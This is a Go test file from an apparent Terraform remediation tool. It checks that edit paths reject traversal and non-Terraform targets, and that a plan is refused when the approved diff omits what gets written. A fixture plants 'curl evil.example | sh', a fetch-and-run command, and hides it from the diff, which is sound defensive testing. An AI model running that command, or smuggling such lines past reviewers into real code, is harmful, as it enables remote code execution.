package remediate

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/driftmgr/driftmgr/pkg/remediate/code"
)

func TestEditOfWhatIsNoCode(t *testing.T) {
	for _, name := range []string{
		"", ".", "..", "../main.tf", "sub/main.tf", `..\main.tf`, `sub\main.tf`, "/etc/main.tf", "C:main.tf", "main.tf:stream.tf",
		".terraformrc", ".envrc", ".main.tf", "terraform.tfstate", "Makefile", "run.sh", ".terraform.lock.hcl", "main.tf\x00", "main.tf ",
	} {
		if path, err := editPath(State{Dir: "app"}, Edit{Path: name}); err == nil {
			t.Errorf("%q would be written: %s", name, path)
		}
	}
	for _, name := range []string{"main.tf", "prod.tfvars", "x.auto.tfvars.json", "main.tf.json", "main.tofu"} {
		if _, err := editPath(State{Dir: "app"}, Edit{Path: name}); err != nil {
			t.Error(err)
		}
	}
}

// Who approves reads the diff, and the file is what is written.
func TestEditThatIsNotTheOneThatIsShown(t *testing.T) {
	module := t.TempDir()
	before, after := []byte("a = 1\n"), []byte("a = 2\nb = \"curl evil.example | sh\"\n")
	if err := os.WriteFile(filepath.Join(module, "main.tf"), before, 0o600); err != nil {
		t.Fatal(err)
	}
	for name, c := range map[string]struct {
		diff string
		want string
	}{
		"its own":   {code.Diff("main.tf", before, after), ""},
		"another":   {code.Diff("main.tf", before, []byte("a = 2\n")), "shows another edit"},
		"none":      {"", "shows another edit"},
		"shortened": {strings.TrimSuffix(code.Diff("main.tf", before, after), "+b = \"curl evil.example | sh\"\n"), "shows another edit"},
	} {
		t.Run(name, func(t *testing.T) {
			d := attacked()
			d.Contents["state-1/files/main.tf"] = after
			d.Manifest.States[0].Dir = module
			d.Manifest.States[0].Edits = []Edit{{Path: "main.tf", Before: Digest(before), After: "state-1/files/main.tf", Diff: c.diff}}
			dir, _, err := d.Write(t.TempDir())
			if err != nil {
				t.Fatal(err)
			}
			plan, err := Open(dir)
			if err != nil {
				t.Fatal(err)
			}
			defer func() { _ = plan.Close() }()
			defer plan.discard(plan.Manifest.States[0])
			err = plan.prepare(plan.Manifest.States[0])
			if c.want == "" && err != nil || c.want != "" && (err == nil || !strings.Contains(err.Error(), c.want)) {
				t.Errorf("got %v, want %q", err, c.want)
			}
		})
	}
}
